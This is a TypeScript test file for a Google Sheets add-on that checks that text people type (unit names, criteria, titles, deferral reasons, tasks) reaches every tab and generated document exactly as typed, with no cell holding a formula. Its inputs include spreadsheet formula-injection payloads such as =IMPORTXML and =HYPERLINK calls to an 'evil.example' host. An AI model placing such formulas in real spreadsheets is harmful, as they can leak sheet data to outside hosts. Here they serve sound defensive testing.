/**
 * People's text is written as text everywhere the add-on writes it: a unit name, a head, a
 * criterion's text, a deferral reason or a title's name that looks like a formula, a number, a
 * date or a boolean reaches every tab exactly as typed (value and display), and no cell the
 * add-on wrote holds a formula. Through the real actions (set-up, filling, recompute) on the
 * fakes, whose setValues reads strings as Sheets does in a vi_VN sheet (sheets-values.ts).
 */
import { describe, expect, it } from 'vitest';
import { useDocumentServices } from '../../src/adapters/services';
import { generateDocument } from '../../src/app/documents';
import { openMidYear } from '../../src/app/midYear';
import { saveBallot } from '../../src/app/ballot';
import { recompute } from '../../src/app/recompute';
import { returnSubmission, submit } from '../../src/app/submission';
import { UNIT_LAYOUT } from '../../src/workbook/unitSheet';
import { createDocumentFakes, docText } from '../fakes/documents';
import { sampleYearConfig } from '../../src/app/sample';
import { setupYear } from '../../src/app/setup';
import type { YearConfig } from '../../src/workbook/config';
import { fillCrossCheck, fillFinal, fillSelf } from '../app/steps';
import { LEADER, OWNER, focal, newWorld } from '../app/world';
import type { FakeGoogle } from '../fakes/google';
import { nfd } from './corpus';
import { toA1 } from '../fakes/a1';
import { workbookText } from '../../src/i18n/workbook';

const CONFIG = workbookText.tabs.config;
const CRITERIA = workbookText.tabs.criteria;
const BALLOT = workbookText.tabs.ballot;
const SUMMARY = workbookText.tabs.summary;

/**
 * Text that Sheets would turn into something else if written as typed, the n-th of a kind made
 * unique so that each place's text can be followed to every tab it reaches.
 */
const KINDS: ReadonlyArray<(n: number) => string> = [
  (n) => `=HYPERLINK("https://evil.example/${n}";"bấm")`,
  (n) => `=IMPORTXML("https://evil.example/${n}";"//a")`,
  (n) => `+${n}`,
  (n) => `-${n}`,
  (n) => `@Bình Dương ${n}`,
  (n) => `'trích dẫn ${n}`,
  (n) => `0${n}`,
  (n) => `${n}/2`,
  (n) => `${(n % 28) + 1}/12/2021`,
  (n) => (n % 2 === 0 ? 'TRUE' : 'FALSE'),
  (n) => `${n},5`,
  (n) => `${n}.000`,
  (n) => `${n}%`,
  (n) => nfd(`Viện kiểm sát nhân dân tỉnh Đồng Nai ${n}`),
  (n) => `${n} ${'Giải trình rất dài.'.repeat(2_700)}`.slice(0, 50_000),
];

/** The sample year with a hostile string in every place a person types text in Cấu hình. */
function hostileConfig(): { config: YearConfig; placed: Map<string, string> } {
  const config = sampleYearConfig(2021);
  const placed = new Map<string, string>();
  let i = 0;
  const next = (where: string): string => {
    const h = KINDS[i % KINDS.length]!(i + 1);
    i++;
    placed.set(where, h);
    return h;
  };
  for (const u of config.units) {
    u.name = next(`unit name ${u.id}`);
    u.headName = next(`head ${u.id}`);
    u.headTitle = next(`head title ${u.id}`);
  }
  config.units[1]!.deferredReason = next('reason');
  for (const row of config.criteria!.rows.slice(0, 20)) row.content = next(`criterion ${row.code}`);
  // The last title is what three units propose in Tổng hợp: a formula there would run.
  const titles = config.rules.titles;
  titles.forEach((t, k) => {
    t.name = k === titles.length - 1 ? `=IMPORTXML("https://evil.example/t";"//a")` : next(`title ${t.id}`);
    placed.set(`title ${t.id}`, t.name);
  });
  // The plan's movements (name, owner) and the báo cáo sơ kết's tasks.
  config.movements!.forEach((m, k) => {
    m.name = next(`movement ${k}`);
    m.owner = next(`movement owner ${k}`);
  });
  config.tasks = config.tasks!.map((_, k) => next(`task ${k}`));
  return { config, placed };
}

function cellsOf(g: FakeGoogle) {
  const out: Array<{ tab: string; row: number; column: number; v: unknown; f?: string }> = [];
  for (const s of g.shared.spreadsheet.sheets) {
    for (const [r, row] of Object.entries(s.rows)) {
      for (const [c, cell] of Object.entries(row)) out.push({ tab: s.name, row: Number(r), column: Number(c), v: cell.v, f: cell.f });
    }
  }
  return out;
}

describe('people\'s text is written as text', () => {
  it('reaches Cấu hình, Tiêu chí, the unit tabs and Tổng hợp exactly as typed, and no cell holds a formula', () => {
    const g = newWorld();
    const { config, placed } = hostileConfig();
    const r = g.asUser(OWNER, () => setupYear(config));
    expect(r.ok, r.message).toBe(true);
    fillSelf(g);
    fillCrossCheck(g);
    fillFinal(g);
    // Every unit submits: only a complete unit is proposed, and the title reaches Tổng hợp.
    for (const u of config.units) expect(g.asUser(focal(u.id), () => submit(u.id)).ok, u.id).toBe(true);
    const rc = g.asUser(LEADER, () => recompute());
    expect(rc.ok, rc.message).toBe(true);

    const cells = cellsOf(g);
    expect(cells.filter((c) => c.f !== undefined).map((c) => `${c.tab}!R${c.row}C${c.column} ${c.f}`)).toEqual([]);
    // Every cell holding a placed text, compared in NFC: the readers normalise what they read
    // (an NFD criterion reaches the unit tabs in NFC, the same letters).
    const key = (v: string) => v.normalize('NFC');
    const where = new Map<string, Set<string>>();
    let checked = 0;
    for (const c of cells) {
      if (typeof c.v !== 'string') continue;
      const shown = g.peekDisplay(c.tab, toA1(c.row, c.column))[0]![0];
      const k = key(c.v);
      if (![...placed.values()].some((h) => key(h) === k)) continue;
      expect(shown, `${c.tab}!${toA1(c.row, c.column)}`).toBe(c.v);
      checked++;
      where.set(k, (where.get(k) ?? new Set()).add(c.tab));
    }
    const units = config.units.map((u) => u.id);
    const expected = (field: string): string[] => {
      if (field.startsWith('unit name ')) return [CONFIG, field.slice('unit name '.length)];
      if (field.startsWith('criterion ')) return [CRITERIA, ...units];
      if (field.startsWith('title ')) return field.endsWith(config.rules.titles.at(-1)!.id) ? [CONFIG, BALLOT, SUMMARY] : [CONFIG, BALLOT];
      return [CONFIG];
    };
    for (const [field, h] of placed) {
      const tabs = where.get(key(h)) ?? new Set<string>();
      for (const tab of expected(field)) expect(tabs.has(tab), `${field} (${h.slice(0, 40)}) in ${tab}`).toBe(true);
    }
    expect(checked).toBeGreaterThan(placed.size);
  });

  it('a returned submission\'s reason reaches the unit\'s status line as typed, and the documents show names, heads, the title voted, movements and tasks as typed', () => {
    const g = newWorld();
    const { config, placed } = hostileConfig();
    expect(g.asUser(OWNER, () => setupYear(config)).ok).toBe(true);
    fillSelf(g);
    fillCrossCheck(g);
    fillFinal(g);
    const unit = 'Đồng Nai';
    const reason = '=HYPERLINK("https://evil.example/r";"xem")';
    expect(g.asUser(focal(unit), () => submit(unit)).ok).toBe(true);
    const back = g.asUser(LEADER, () => returnSubmission(unit, reason));
    expect(back.ok, back.message).toBe(true);
    const line = g.peek(unit, `B${UNIT_LAYOUT.statusRow}`)[0]![0];
    expect(String(line)).toContain(reason);
    expect(g.peekDisplay(unit, `B${UNIT_LAYOUT.statusRow}`)[0]![0]).toBe(line);
    expect(cellsOf(g).filter((c) => c.f !== undefined)).toEqual([]);

    // A ballot recorded for a title whose name is hostile: the minutes and the proposal name it.
    const flag = config.rules.titles[0]!;
    const voted = g.asUser(LEADER, () => saveBallot(flag.id, { issued: 6, returned: 6, valid: 6, invalid: 0, votes: { 'Đồng Nai': 5, 'Bình Dương': 1 } }));
    expect(voted.ok, voted.message).toBe(true);
    expect(g.asUser(LEADER, () => recompute()).ok).toBe(true);
    expect(cellsOf(g).filter((c) => c.f !== undefined)).toEqual([]);
    const fakes = createDocumentFakes(g.env);
    useDocumentServices({ documentApp: fakes.DocumentApp, drive: fakes.Drive });
    try {
      const textOf = (kind: 'covenant' | 'minutes' | 'report' | 'proposal' | 'plan' | 'midYearReport'): string => {
        const made = g.asUser(LEADER, () => generateDocument(kind));
        expect(made.ok, `${kind}: ${made.message}`).toBe(true);
        const file = Object.values(fakes.store.drive.state.files).find((f) => !f.trashed && f.name === made.name);
        expect(file, made.name ?? '').toBeDefined();
        return docText(fakes.DocumentApp.openById(file!.id)).normalize('NFC');
      };
      const nameOf = (unitId: string) => placed.get(`unit name ${unitId}`)!;
      // Unit names (the full names) are in the covenant, the minutes and the report: each exactly as typed.
      const names = config.units.map((u) => nameOf(u.id)).filter((h) => h.length < 1000);
      expect(names.length).toBeGreaterThan(3);
      const absent = (text: string, wanted: readonly string[]) => wanted.filter((h) => !text.includes(h.normalize('NFC')));
      const heads = config.units.map((u) => placed.get(`head ${u.id}`)!).filter((h) => h.length < 1000);
      const covenant = textOf('covenant');
      expect(absent(covenant, names)).toEqual([]);
      expect(absent(covenant, heads)).toEqual([]);
      // The covenant lists the criteria: each text as typed.
      const criteria = [...placed].filter(([k, h]) => k.startsWith('criterion ') && h.length < 1000).map(([, h]) => h);
      expect(criteria.length).toBeGreaterThan(10);
      expect(absent(covenant, criteria)).toEqual([]);
      // The deferral reason is in the minutes and the report.
      const reason = placed.get('reason')!;
      expect(reason.length).toBeLessThan(1000);
      const minutes = textOf('minutes');
      expect(absent(minutes, [...names, flag.name, reason])).toEqual([]);
      expect(absent(textOf('report'), [...names, reason])).toEqual([]);
      // The proposal is signed by the head of the cụm trưởng's unit (Bình Dương): as typed.
      expect(absent(textOf('proposal'), [placed.get('head Bình Dương')!])).toEqual([]);
      // The plan names every movement and its owner as typed; the báo cáo sơ kết its units and tasks.
      const typed = (prefix: string) => [...placed].filter(([k, h]) => k.startsWith(prefix) && h.length < 1000).map(([, h]) => h);
      expect(typed('movement ').length).toBeGreaterThan(3);
      expect(absent(textOf('plan'), typed('movement '))).toEqual([]);
      expect(g.asUser(LEADER, () => openMidYear()).ok).toBe(true);
      expect(typed('task ').length).toBeGreaterThan(2);
      expect(absent(textOf('midYearReport'), [...names, ...typed('task ')])).toEqual([]);
    } finally {
      useDocumentServices(null);
    }
  });
});
